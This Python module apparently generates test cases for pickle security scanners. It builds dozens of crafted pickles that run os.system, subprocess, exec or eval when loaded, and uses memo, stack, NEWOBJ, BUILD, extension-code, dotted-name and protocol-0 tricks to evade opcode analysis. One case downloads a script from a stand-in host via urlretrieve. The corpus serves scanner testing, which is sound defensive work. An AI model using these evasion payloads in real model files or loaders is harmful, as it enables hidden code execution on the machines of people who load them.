"""Pickles that mean one thing to a tool that looks back over opcodes, another to the machine that runs them.

Memo, stack and mark tricks, every way to call (REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD, EXT, persistent ids,
mutators of a made-up class), names that are computed or dotted, and the odd spellings of protocol 0.
"""

import pickle
from collections import OrderedDict

from pkl import *

FAMILY = "pickle-vm"


def make(corpus):
    def case(name, code, twin=None, about="", expected="fail", version=4, file="model.pkl"):
        data = code if isinstance(code, bytes) and not isinstance(code, Code) else pickled(code, version=version)
        corpus.attack(FAMILY, name, {file: data}, about=about, expected=expected, twin=twin and {file: twin})

    memo_and_stack(case)
    ways_to_call(case)
    made_classes(case)
    names(case)
    old_spellings(case)


def memo_and_stack(case):
    arg = value(("id",))
    repeated = pickle.dumps([("os", "path"), ("os", "path"), "system"], 4)
    case(
        "memo-strings-reversed",
        Code(text("system") + put(1) + POP + text("os") + put(0) + POP + get(0) + get(1) + STACK_GLOBAL + arg + REDUCE),
        repeated,
        "name parts go through the memo, last part first",
    )
    case(
        "memo-overwritten",
        Code(ref("builtins", "len") + put(0) + POP + ref("os", "system") + put(0) + POP + get(0) + arg + REDUCE),
        pickle.dumps([len, len], 4),
        "a memo slot holds a harmless function first, another one later",
    )
    case(
        "memoize-counts",
        Code(text("a") + MEMOIZE + text("os") + MEMOIZE + text("system") + MEMOIZE + POP + POP + POP
             + get(1) + get(2) + STACK_GLOBAL + arg + REDUCE),
        repeated,
    )  # fmt: skip
    case(
        "long-memo-index",
        Code(text("os") + b"r\x39\x30\x00\x00" + POP + text("system") + b"r\xff\xff\x00\x00" + POP
             + b"j\x39\x30\x00\x00" + b"j\xff\xff\x00\x00" + STACK_GLOBAL + arg + REDUCE),
    )  # fmt: skip
    case(
        "memo-spelled-with-zeros",
        b"Vid\np007\n0cos\nsystem\n(g7\ntR.",
        b"Vname\np007\n0]g7\na.",
        "PUT 007 and GET 7 are the same slot",
    )
    case("dup-function", Code(ref("os", "system") + DUP + POP + arg + REDUCE), pickle.dumps([1, 1], 2))
    case(
        "dup-argument",
        Code(text("id") + DUP + b"\x85" + put(0) + POP + POP + ref("os", "system") + get(0) + REDUCE),
    )
    case(
        "pop-mark-decoy",
        Code(text("os") + MARK + text("json") + text("loads") + value([1, 2, 3]) + POP_MARK + text("system")
             + MARK + NONE + POP_MARK + STACK_GLOBAL + arg + REDUCE),
        proto(4) + value("kept") + MARK + value("json") + value("loads") + POP_MARK + STOP,
        "decoy strings between module and name vanish by POP_MARK",
    )  # fmt: skip
    case(
        "pop-as-mark",
        Code(text("os") + MARK + POP + text("system") + STACK_GLOBAL + arg + REDUCE),
        about="POP on an empty mark removes the mark",
    )
    case(
        "far-apart",
        Code(text("os") + b"".join(text(f"layer{i}.weight") + POP for i in range(3000)) + text("system")
             + STACK_GLOBAL + arg + REDUCE),
        pickle.dumps([f"layer{i}.weight" for i in range(3000)], 4),
        "six thousand opcodes between module and name",
    )  # fmt: skip
    case(
        "result-discarded",
        Code(call("posix", "system", "true") + POP + value({"weights": [0.1, 0.2]})),
        PLAIN,
        "what stays on the stack is plain data",
    )
    case(
        "inside-frozenset",
        Code(MARK + call("os", "popen", "id") + FROZENSET),
        pickle.dumps(frozenset([1, "a"]), 4),
    )
    case(
        "argument-in-list-memo",
        Code(value(["id"]) + put(3) + POP + ref("subprocess", "check_output") + MARK + get(3) + TUPLE + REDUCE),
    )
    case(
        "function-in-tuple",
        Code(ref("operator", "itemgetter") + value((0,)) + REDUCE + MARK + value((ref("os", "system"), 1)) + TUPLE
             + REDUCE + arg + REDUCE),
        about="the function comes out of a tuple by itemgetter",
    )  # fmt: skip
    case(
        "chain-of-getattr",
        apply(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), "id"),
    )
    case("second-proto-inside", Code(ref("os", "system") + proto(2) + arg + REDUCE), about="PROTO in the middle")
    case(
        "buffer-opcodes",
        Code(b"\x96" + (2).to_bytes(8, "little") + b"id" + POP + ref("os", "system") + arg + REDUCE),
        pickle.dumps(bytearray(b"id"), 5),
        version=5,
    )


def ways_to_call(case):
    case("inst", b"(S'id'\nios\nsystem\n.", b"(icollections\nOrderedDict\n.", "INST")
    case("inst-after-data", b"(dp0\nS'a'\n(Vid\nios\npopen\ns.")
    case("obj", b"\x80\x02(cos\nsystem\nU\x02ido.", b"\x80\x02(ccollections\nOrderedDict\no.", "OBJ")
    case("obj-memo", b"\x80\x02cposix\nsystem\nq\x000(h\x00U\x02ido.")
    case(
        "newobj-map-tuple",
        Code(ref("builtins", "tuple") + MARK + ref("builtins", "map") + value((ref("os", "system"), ["id"]))
             + NEWOBJ + TUPLE + NEWOBJ),
        pickle.dumps(OrderedDict(a=1), 4),
        "no REDUCE anywhere: tuple.__new__ eats map.__new__(os.system, ['id'])",
    )  # fmt: skip
    case(
        "newobj-filter-set",
        Code(ref("builtins", "frozenset") + MARK + ref("builtins", "filter") + value((ref("builtins", "eval"), ["1"]))
             + NEWOBJ + TUPLE + NEWOBJ),
    )  # fmt: skip
    case(
        "newobj-ex-partial",
        Code(ref("functools", "partial") + value((ref("os", "popen"), "id")) + value({"mode": "r"}) + NEWOBJ_EX
             + EMPTY_TUPLE + REDUCE),
        about="a partial built by NEWOBJ_EX is then called",
    )  # fmt: skip
    case(
        "newobj-ex-popen",
        Code(ref("subprocess", "Popen") + EMPTY_TUPLE + value({"args": "id", "shell": True}) + NEWOBJ_EX),
    )
    case(
        "ext1-registered",
        Code(call("copyreg", "add_extension", "os", "system", 240) + POP + b"\x82\xf0" + value(("id",)) + REDUCE),
        about="the pickle registers the extension code that it then uses",
    )
    case(
        "ext2-registered",
        Code(call("copyreg", "add_extension", "subprocess", "call", 4660) + POP + b"\x83\x34\x12" + value((["id"],))
             + REDUCE),
    )  # fmt: skip
    case("ext4-unknown", Code(b"\x84\x78\x56\x34\x12" + value(("id",)) + REDUCE), about="a code registered elsewhere")
    case("ext1-lone", Code(value([1]) + POP + b"\x82\x07" + value(("true",)) + REDUCE))
    case("persid-called", b"(lp0\n0Pos.system\n(S'id'\ntR.", about="calls whatever the persistent id becomes")
    case(
        "persid-storage-type",
        Code(MARK + text("storage") + ref("os", "system") + text("0") + text("cpu") + value(4) + TUPLE + BINPERSID),
        about="a torch persistent id whose storage type is os.system",
        version=2,
    )
    case(
        "persid-computed",
        Code(value(("storage", call("subprocess", "getoutput", "id"), "0", "cpu", 4)) + BINPERSID),
    )
    case(
        "build-on-module-function",
        Code(ref("json", "loads") + value({"__doc__": "x"}) + BUILD + POP + call("os", "system", "id")),
        about="BUILD on a function object, then the call",
    )
    case(
        "build-on-class",
        Code(ref("argparse", "Namespace") + put(0) + value((None, {"__setstate__": ref("os", "system")})) + BUILD + POP
             + get(0) + EMPTY_TUPLE + NEWOBJ + text("id") + BUILD),
        about="BUILD gives a class the __setstate__ os.system; the next BUILD calls it",
    )  # fmt: skip
    case(
        "build-on-module-object",
        Code(call("importlib", "import_module", "json") + value({"dumps": ref("os", "system")}) + BUILD + POP
             + call("json", "dumps", "id")),
        about="rewrites json.dumps, then calls it by its harmless name",
    )  # fmt: skip


def made_classes(case):
    """Classes made on the spot by `type`, whose special methods are functions of the attacker's choice."""

    def made(methods):
        return call("builtins", "type", "Layer", (), {k: v for k, v in methods.items()})

    system = ref("os", "system")
    instance = Code(EMPTY_TUPLE + NEWOBJ)
    case("type-setstate", Code(made({"__setstate__": system}) + instance + text("id") + BUILD))
    case(
        "namespace-append",
        Code(ref("argparse", "Namespace") + instance + value({"append": system}) + BUILD + text("id") + APPEND),
        about="BUILD sets an instance's append to os.system; APPEND calls it",
    )
    case(
        "simplenamespace-extend",
        Code(ref("argparse", "Namespace") + instance + value({"extend": ref("subprocess", "call")}) + BUILD + MARK
             + text("id") + APPENDS),
        about="APPENDS hands the list ['id'] to subprocess.call",
    )  # fmt: skip
    case(
        "namespace-add",
        Code(ref("argparse", "Namespace") + instance + value({"add": system}) + BUILD + MARK + text("id") + ADDITEMS),
        about="ADDITEMS calls the add of a made-up object",
    )
    case(
        "type-setitem-exec",
        Code(made({"__setitem__": ref("builtins", "exec")}) + instance + text("print(1)") + EMPTY_DICT + SETITEM),
        about="SETITEM becomes exec(key, value)",
    )
    case(
        "type-newobj-direct",
        Code(ref("builtins", "type") + value(("L", (), {"__reduce__": system})) + NEWOBJ + instance + value({}) + BUILD),
    )


def names(case):
    arg = value(("id",))
    call_by = lambda *pair: Code(ref(*pair) + arg + REDUCE)  # noqa: E731
    case("dotted-call", Code(ref("builtins", "eval.__call__") + value(("1",)) + REDUCE))
    case("dotted-reexport-random", call_by("random", "_os.system"), about="random imports os as _os")
    case("dotted-reexport-logging", call_by("logging", "os.popen"))
    case("dotted-torch-os", call_by("torch.serialization", "os.system"))
    case("dotted-numpy", call_by("numpy.lib.npyio", "os.system"))
    case("dotted-sklearn", call_by("sklearn.utils", "warnings.sys.modules.__getitem__"))
    case("dotted-globals", Code(ref("collections", "namedtuple.__globals__.__getitem__") + value(("_sys",)) + REDUCE))
    case("dotted-sys-modules", Code(ref("collections", "_sys.modules") + put(0) + POP
                                    + apply(call("operator", "itemgetter", "os"), get(0))))  # fmt: skip
    case("dotted-subclasses", Code(ref("builtins", "object.__subclasses__") + EMPTY_TUPLE + REDUCE))
    case("dotted-datetime", Code(ref("datetime", "datetime.__class__.__call__.__self__") + value(("X", (), {})) + REDUCE))
    case("dotted-ordered-dict", Code(ref("collections", "OrderedDict.fromkeys.__self__.__base__.__subclasses__")
                                     + EMPTY_TUPLE + REDUCE))  # fmt: skip
    case(
        "computed-name-decode",
        Code(call("_codecs", "encode", "os", "ascii") + POP + call("codecs", "decode", "bf", "rot13")
             + call("codecs", "decode", "flfgrz", "rot13") + STACK_GLOBAL + arg + REDUCE),
        about="module and name are ROT13 results",
    )  # fmt: skip
    case("computed-name-str", Code(call("builtins", "str", b"os", "ascii") + text("system") + STACK_GLOBAL + arg + REDUCE))
    case(
        "computed-name-join",
        Code(text("os") + call("operator", "concat", "sys", "tem") + STACK_GLOBAL + arg + REDUCE),
    )
    case(
        "computed-name-format",
        Code(call("builtins", "format", "os", "") + call("textwrap", "dedent", "system") + STACK_GLOBAL + arg + REDUCE),
    )
    case("name-from-int", Code(value(7) + text("system") + STACK_GLOBAL + arg + REDUCE), expected="not-pass",
         about="STACK_GLOBAL of an int: no unpickler goes on")  # fmt: skip
    case("name-missing-memo", Code(get(9) + text("system") + STACK_GLOBAL + arg + REDUCE), expected="not-pass")
    case("module-nt", call("nt", "system", "id"))
    case("module-submodule", call("os.path", "os.system", "id"))
    case("module-main", call("__main__", "load_weights", "id"), expected="not-pass",
         about="calls a function of the program that loads it")  # fmt: skip
    case("function-from-code", apply(call("types", "FunctionType", call("marshal", "loads", b"\xe3" + b"\0" * 40), {})))


def old_spellings(case):
    case("escaped-string", b"cos\nsystem\n(S'\\x69\\x64'\ntR.", b"(S'\\x69\\x64'\nS\"b\"\nl.", "escapes in STRING")
    case("unicode-escapes", b"cos\nsystem\n(V\\u0069\\u0064\ntR.", b"(V\\u0069\\u0064\nl.", "escapes in UNICODE")
    case("double-quotes", b'cos\nsystem\n(S"id"\ntR.', b'(S"id"\nl.')
    case("bools-and-longs", b"I01\n0L5L\n0F1.5\n0cos\nsystem\n(S'id'\ntR.", b"(I01\nI00\nL5L\nF1.5\nl.")
    case("no-proto-long-text", b"(V" + b"w" * 5000 + b"\nl0cos\nsystem\n(S'id'\ntR.", b"(V" + b"w" * 5000 + b"\nl.")
    case("starts-with-none", b"N0cos\nsystem\n(S'id'\ntR.", b"N.")
    case("starts-with-list", b"]0cos\nsystem\n(S'id'\ntR.", b"].")
    case("starts-with-float", b"F3.14\n0(S'id'\nios\nsystem\n.", b"F3.14\n.")
    case("python2-commands", b"\x80\x02ccommands\ngetstatusoutput\n(U\x02idtR.", about="Python 2 name, mapped on loading")
    case("python2-builtin", b"\x80\x02c__builtin__\nexecfile\n(U\x05/dev/tR.")
    case("python2-apply", b"c__builtin__\neval\n(S'1'\ntR.")
    case("python2-cpickle", b"\x80\x02ccPickle\nloads\n(U\x15cos\nsystem\n(S'id'\ntR.tR.")
    case("python2-urllib", b"\x80\x02curllib\nurlretrieve\n(U\x20http://weights.invalid/update.pytR.")
    case("proto5-with-old-opcodes", b"\x80\x05cos\nsystem\n(S'id'\nt\x52.")
    case("uppercase-name", EVIL_0, file="MODEL.PKL")
